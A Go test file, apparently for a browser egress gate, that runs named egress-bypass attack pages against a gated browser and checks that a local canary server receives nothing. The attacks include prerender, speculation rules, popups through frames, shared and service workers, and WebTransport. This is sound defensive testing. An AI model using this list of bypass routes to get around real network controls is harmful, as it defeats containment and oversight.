func TestLivePagesReachNothingThroughSubframesOrSingleRules(t *testing.T) {
	t.Parallel()
	e := startAttacks(t, egressManifest)
	for _, c := range []struct {
		page, tag string
		click     bool
	}{
		// Speculation first: once a popup has opened the browser stops
		// prefetching for the tab (TestLivePagesReachNothingBySpeculation's
		// controls).
		{"prerender-inscope", "prerender-inscope", false},
		{"specrules-prefetch", "specrules-prefetch-only", false},
		{"specrules-prerender", "specrules-prerender-only", false},
		{"popup-viaframe", "popup-viaframe", true},
		{"popup-viaframe-noopener", "popup-viaframe-noopener", true},
		{"popup-viablank", "popup-viablank", true},
		{"popup-onload-xframe", "popup-onload-xframe", false},
		{"shw-samesite", "shw-samesite", false},
		{"sw-samesite", "sw-samesite", false},
	} {
		t.Run(c.page, func(t *testing.T) { e.attack(t, c.page, c.tag, c.click, attackGrace) })
	}
	e.overall(t)
}

// TestLivePagesReachNothingByWebTransportWithQUICOff: the same with
// --disable-quic (as the suite's user browser runs).
func TestLivePagesReachNothingByWebTransportWithQUICOff(t *testing.T) {
	t.Parallel()
	e := startAttacks(t, egressManifest, "--disable-quic")
	e.attack(t, "webtransport", "webtransport", false, attackGrace)
	if n := e.udp.Load(); n > 0 {
		t.Errorf("LEAK webtransport (--disable-quic): the UDP canary received %d datagram(s)", n)
	}
}

// TestUsersServiceWorkerStartedDuringASessionIsNotHeld: the user's own
// service worker on an in-scope origin, started during the session (the
// user opens the site in a tab of their own), could be taken for the
// session's; the user's own traffic through it is not held to the
// session's scope: its fetch of the user's other site arrives.
func TestUsersServiceWorkerStartedDuringASessionIsNotHeld(t *testing.T) {
	t.Parallel()
	var mu sync.Mutex
	var seen []string
	userSite, stop, err := serveOn("127.0.0.4:0", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		seen = append(seen, r.URL.Path)
		mu.Unlock()
		fmt.Fprint(w, "ok")
	}))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(stop)
	e := startAttacks(t, egressManifest)
	e.site.user = userSite
	// The session is on the allowed site (its origin is now a session origin).
	e.f.mustAllow(t, "egress.navigate", map[string]any{"url": e.site.self + "/payload?tag=none"})
	// The user, in a tab of their own, opens the same site, whose service
	// worker starts now, and asks it to fetch the user's other site.
	_, cancelA := e.userTab(t, e.site.self+"/sw-relay-register", "READY")
	defer cancelA()
	start := time.Now()
	_, cancelB := e.userTab(t, e.site.self+"/user-sw-use", "fetch")
	defer cancelB()
	t.Logf("user SW round in %v", time.Since(start))
	time.Sleep(time.Second)
	mu.Lock()
	got := append([]string(nil), seen...)
	mu.Unlock()
	if len(got) == 0 {
		t.Errorf("USER TOUCHED: the user's own service worker's fetch to %s never arrived (it was intercepted by the session's gate)", userSite)
	} else {
		t.Logf("user SW fetch arrived: %v", got)
	}
	text, _ := e.f.call(t, "egress.snapshot", nil)
	t.Logf("session snapshot: %s", strings.ReplaceAll(text, "\n", " | "))
}

// TestRelayWorkerWithoutBrowsergate is the control of
// TestLivePagesReachNothingThroughTheUsersWorkers: without browsergate,
// does the relay shared worker of a user's tab reach the canary when a
// second tab asks? It logs what the canary saw.
func TestRelayWorkerWithoutBrowsergate(t *testing.T) {
	t.Parallel()
	port := startChromiumFlags(t)
	nc, canaryURL, stop, err := demosite.ListenCanary("127.0.0.2:0")
	if err != nil {
		t.Fatal(err)
	}
	defer stop()
	s := &attackSite{canary: canaryURL, ws: "ws" + strings.TrimPrefix(canaryURL, "http")}
	self, stop2, err := serveOn("127.0.0.1:0", s)
	if err != nil {
		t.Fatal(err)
	}
	defer stop2()
	s.self = self
	e := &attackEnv{site: s, port: port}
	_, c1 := e.userTab(t, self+"/user-shw", "connected")
	defer c1()
	_, c2 := e.userTab(t, self+"/shw-relay-use", "fetch")
	defer c2()
	time.Sleep(time.Second)
	t.Logf("control canary: %s", nc)
}
